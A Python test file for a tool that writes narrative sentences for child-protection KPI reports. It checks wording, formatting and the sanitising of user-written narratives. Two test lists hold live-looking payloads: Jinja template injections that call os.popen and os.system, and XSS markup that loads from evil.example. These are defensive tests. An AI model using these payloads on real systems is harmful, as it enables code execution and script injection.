"""Key-message sentences read correctly for rising, falling, level and missing figures."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest

from iro_analysis.core.errors import InputError
from iro_analysis.report.narrative import (
    KEY_MESSAGES,
    Message,
    NarrativeError,
    direction,
    format_value,
    load_narrative,
    missing_sentence,
    render_narrative,
    sentence,
    split_sections,
)

ICPC = next(m for m in KEY_MESSAGES if m.kpi_id == "icpc_within_15wd_pct")
CLA = next(m for m in KEY_MESSAGES if m.kpi_id == "cla_at_31_march")


def test_rising_with_england():
    text = sentence(ICPC, 85.2, 81.0, "2020/21", 78.5)
    assert text == (
        "85.2% of initial child protection conferences were held within 15 working days, "
        "up from 81.0% in 2020/21; England 78.5%."
    )


def test_falling_count():
    assert sentence(CLA, 1150, 1203, "2020/21") == (
        "1,150 children were looked after at 31 March, down from 1,203 in 2020/21."
    )


def test_level_compares_figures_as_printed():
    # 81.04 and 80.96 both print as 81.0: the sentence must not say "up" or "down".
    assert sentence(ICPC, 81.04, 80.96, "2020/21") == (
        "81.0% of initial child protection conferences were held within 15 working days, "
        "the same as in 2020/21."
    )


def test_no_previous_year_and_no_england():
    assert sentence(CLA, 1000, None, None) == "1,000 children were looked after at 31 March."


def test_missing_current_gives_none_and_missing_sentence():
    assert sentence(ICPC, None, 80.0, "2020/21") is None
    assert missing_sentence("Reviews on time", "2021/22", "its data was not supplied") == (
        "Reviews on time could not be reported for 2021/22: its data was not supplied."
    )


def test_direction_and_format():
    assert direction(10, 9, "count") == "up"
    assert direction(9, 10, "count") == "down"
    assert direction(9.99, 10.01, "percent") == "level"
    assert direction(5, None, "count") is None
    assert format_value(61.3, "ratio") == "61.3"
    assert format_value(1234.0, "count") == "1,234"
    assert format_value(None, "percent") is None
    assert sentence(Message("cla_caseload_per_iro_fte", "things"), 2.0).startswith("2.0 things")


def test_placeholders_fill_and_unknown_is_named():
    text = render_narrative(
        "ICPCs on time: {{ kpi.icpc_within_15wd_pct }}.", {"icpc_within_15wd_pct": "85.2%"}, "n.md"
    )
    assert text == "ICPCs on time: 85.2%."
    with pytest.raises(NarrativeError, match=r"n\.md: unknown placeholder 'kpi\.icpc_within_15wd'"):
        render_narrative("{{ kpi.icpc_within_15wd }}", {"icpc_within_15wd_pct": "85.2%"}, "n.md")
    with pytest.raises(NarrativeError, match="unknown placeholder"):
        render_narrative("{{ kpis.x }}", {}, "n.md")


def test_sections_split_and_unknown_heading(tmp_path):
    allowed = ["Key messages", "Priorities for next year"]
    parts = split_sections("Lead text.\n\n## Priorities for next year\n\n- One\n", allowed, "f.md")
    assert parts == {"Key messages": "Lead text.", "Priorities for next year": "- One"}
    with pytest.raises(NarrativeError, match="'## Wishes' is not a report section"):
        split_sections("## Wishes\nx", allowed, "f.md")
    f = tmp_path / "2022.md"
    f.write_text("## priorities for next year\nKeep {{ kpi.drp_raised }} low.\n")
    assert load_narrative(f, {"drp_raised": "120"}, allowed) == {
        "Priorities for next year": "Keep 120 low."
    }
    assert load_narrative(tmp_path / "none.md", {}, allowed) == {}


# --------------------------------------------------------------------------------------
# The narrative is untrusted: only the documented placeholders, nothing evaluated.
# --------------------------------------------------------------------------------------

PWNED = Path("/tmp/iro-analysis-narrative-test.pwned")
ATTACKS = [
    "{{ lipsum.__globals__['os'].popen('touch " + str(PWNED) + "').read() }}",
    "{{ cycler.__init__.__globals__.os.system('touch " + str(PWNED) + "') }}",
    "{{ self._TemplateReference__context }}",
    "{{ config }}",
    "{{ council.__class__.__mro__ }}",
    "{{ kpi.__class__ }}",
    "{{ kpi.drp_raised.__class__ }}",
    "{{ kpi['drp_raised'] }}",
    "{{ council | upper }}",
    "{{ council ~ period }}",
    "{{ 7 * 7 }}",
    "{{ 'text' }}",
    "{{ range(10) }}",
    "{% set x = 1 %}",
    "{% if council %}yes{% endif %}",
    "{% for i in range(3) %}x{% endfor %}",
    "{% include 'x.html' %}",
    "{% raw %}{{ council }}{% endraw %}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_anything_but_a_placeholder_is_refused_naming_file_and_line(attack):
    PWNED.unlink(missing_ok=True)
    text = "## Key messages\n\nIntro line.\n" + attack + "\n"
    with pytest.raises(NarrativeError) as exc:
        render_narrative(text, {"drp_raised": "120"}, "reports/narrative/2022.md", council="C")
    msg = str(exc.value)
    assert "reports/narrative/2022.md" in msg and "line 4" in msg, msg
    assert not PWNED.exists()


def test_errors_say_what_is_allowed():
    with pytest.raises(NarrativeError) as exc:
        render_narrative("a\n{{ council | upper }}", {}, "n.md", council="C")
    assert "{{ kpi.<id> }}, {{ council }}, {{ period }}" in str(exc.value)


def test_documented_placeholders_and_comments_render_with_values_escaped():
    text = render_narrative(
        "{# a note #}{{ council }}, {{ period }}: {{ kpi.drp_raised }}.",
        {"drp_raised": "120"},
        "n.md",
        council='<script>alert(1)</script> & "Co"',
        period="2021/22",
        other="ignored",
    )
    assert text == "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#34;Co&#34;, 2021/22: 120."


def test_the_checked_narrative_is_rendered_in_the_immutable_sandbox():
    from jinja2.sandbox import ImmutableSandboxedEnvironment

    from iro_analysis.report import narrative

    assert isinstance(narrative._NARRATIVE_ENV, ImmutableSandboxedEnvironment)
    assert narrative._NARRATIVE_ENV.autoescape is True


def test_project_narratives_pass_the_check():
    from iro_analysis.core import paths
    from iro_analysis.kpis.registry import KPI_DEFINITIONS
    from iro_analysis.report import SECTION_TITLES
    from iro_analysis.report.narrative import check_narrative_file

    for f in sorted(paths.NARRATIVE_DIR.glob("[0-9][0-9][0-9][0-9].md")):
        check_narrative_file(f, KPI_DEFINITIONS, SECTION_TITLES)


def test_check_narrative_file_refuses_before_data(tmp_path):
    from iro_analysis.report.narrative import check_narrative_file

    f = tmp_path / "2022.md"
    f.write_text("## Key messages\n\n{{ kpi.drp_raised }} and {{ kpi.nope }}\n")
    with pytest.raises(
        NarrativeError, match=r"2022\.md: unknown placeholder 'kpi\.nope' on line 3"
    ):
        check_narrative_file(f, ["drp_raised"], ["Key messages"])
    f.write_text("## Wishes\n")
    with pytest.raises(NarrativeError, match="is not a report section"):
        check_narrative_file(f, ["drp_raised"], ["Key messages"])
    check_narrative_file(tmp_path / "none.md", [], [])


# --------------------------------------------------------------------------------------
# Markdown: only text markup reaches the report.
# --------------------------------------------------------------------------------------


class _Tags(HTMLParser):
    """Every start tag and its attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


MARKUP_ATTACKS = {
    "script": "<script>alert(1)</script>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "iframe": '<iframe src="https://evil.example/frame"></iframe>',
    "javascript link": "[click](javascript:alert(1))",
    "javascript a": '<a href="javascript:alert(1)">click</a>',
    "obfuscated": '<a href="JaVa&#x09;ScRiPt:alert(1)">click</a>',
    "data link": "[d](data:text/html;base64,PHNjcmlwdD4=)",
    "image": "![pixel](https://evil.example/pixel.png)",
    "svg": "<svg onload=alert(1)><circle r=1 /></svg>",
    "style": "<style>@import url(https://evil.example/x.css)</style>",
    "style attribute": '<p style="background:url(https://evil.example/x)">x</p>',
    "handler on allowed tag": '<em onmouseover="alert(1)">x</em>',
    "id clobbering": '<p id="main">x</p>',
    "form": '<form action="https://evil.example"><input name=x></form>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link": '<link rel=stylesheet href="https://evil.example/x.css">',
}


@pytest.mark.parametrize("name", list(MARKUP_ATTACKS))
def test_markup_attacks_are_removed(name):
    from iro_analysis.report.narrative import markdown_html

    out = markdown_html("Before.\n\n" + MARKUP_ATTACKS[name] + "\n\nAfter.")
    low = out.lower()
    for bad in ("<script", "<iframe", "<img", "<svg", "<style", "<object", "<form", "<meta"):
        assert bad not in low, (bad, out)
    assert "javascript:" not in low and "evil.example" not in low and "data:" not in low, out
    for _tag, attrs in _Tags(out).tags:
        assert not any(a.startswith("on") for a in attrs), out
        assert set(attrs) <= {"href", "title", "rel", "start"}, out
    assert "Before." in out and "After." in out


def test_text_markup_survives():
    from iro_analysis.report.narrative import markdown_html

    out = markdown_html(
        "### Our year\n\n#### Detail\n\n*one* **two** ~~three~~\n\n- a\n- b\n\n1. x\n\n"
        "[site](https://example.org/a?b=1) [mail](mailto:iro@example.org) [rel](../2021/x.html)\n\n"
        "| Team | Reviews |\n|---|---|\n| North | 12 |\n"
    )
    for want in (
        "<h3>Our year</h3>",
        "<h4>Detail</h4>",
        "<em>one</em>",
        "<strong>two</strong>",
        "<del>three</del>",
        "<li>a</li>",
        "<ol>",
        '<a href="https://example.org/a?b=1" rel="noopener noreferrer">site</a>',
        'href="mailto:iro@example.org"',
        'href="../2021/x.html"',
        "<th>Team</th>",
        "<td>North</td>",
    ):
        assert want in out, (want, out)


def test_escaped_placeholder_values_stay_text_through_markdown():
    from iro_analysis.report.narrative import markdown_html

    text = render_narrative("{{ council }}", {}, "n.md", council="<script>x</script> & Co")
    assert markdown_html(text).strip() == "<p>&lt;script&gt;x&lt;/script&gt; &amp; Co</p>"


# --------------------------------------------------------------------------------------
# A narrative saved carelessly (issue #29): read as the CSVs are, or refused in one line.
# --------------------------------------------------------------------------------------


def _cli_report(tmp_path, monkeypatch):
    """`iro-analysis report --year 2022` with the narrative folder at tmp_path."""
    from iro_analysis import cli
    from iro_analysis.core import paths

    monkeypatch.setattr(paths, "NARRATIVE_DIR", tmp_path)
    (tmp_path / "raw" / "2022").mkdir(parents=True, exist_ok=True)
    return cli.main(
        ["report", "--year", "2022"]
        + [f"--{k}-dir={tmp_path / k}" for k in ("raw", "reports", "processed", "restricted")]
    )


def test_a_narrative_saved_in_cp1252_reads_as_a_csv_would(tmp_path):
    """Word or Excel on Windows: £ and smart quotes in cp1252 (the drill: a 25-line
    UnicodeDecodeError that did not name the file)."""
    from iro_analysis.core.text import read_narrative
    from iro_analysis.report.narrative import check_narrative_file

    f = tmp_path / "2022.md"
    text = "## Key messages\n\nThe panel\u2019s \u201cwishes\u201d cost \u00a3120.\n"
    f.write_bytes(text.encode("cp1252"))
    assert read_narrative(f) == text
    check_narrative_file(f, ["drp_raised"], ["Key messages"])
    f.write_bytes(text.encode("utf-8") + "Paste: \u00a35\n".encode("cp1252"))  # mixed
    with pytest.raises(InputError, match=r"2022\.md, line 4: this line is not UTF-8"):
        read_narrative(f)


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (
            b"## Key messages\n\nA NUL\x00 here.\n",
            "2022.md, line 3: a NUL byte (binary data) in a narrative",
        ),
        (
            b"## Key messages\n\n" + b"Words. " * 3_000_000,
            "21,000,017 bytes is too large for a narrative",
        ),
    ],
)
def test_a_narrative_with_a_nul_or_huge_stops_the_build_in_one_line(
    tmp_path, monkeypatch, capsys, content, fragment
):
    """The drill: a 20 MB narrative was published without a word, a NUL byte silently
    dropped. Both now stop the build at the door, one line naming the file."""
    f = tmp_path / "2022.md"
    f.write_bytes(content)
    assert _cli_report(tmp_path, monkeypatch) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    assert err.startswith("iro-analysis report: error: ") and fragment in err, err
    assert not (tmp_path / "reports" / "2022").exists()
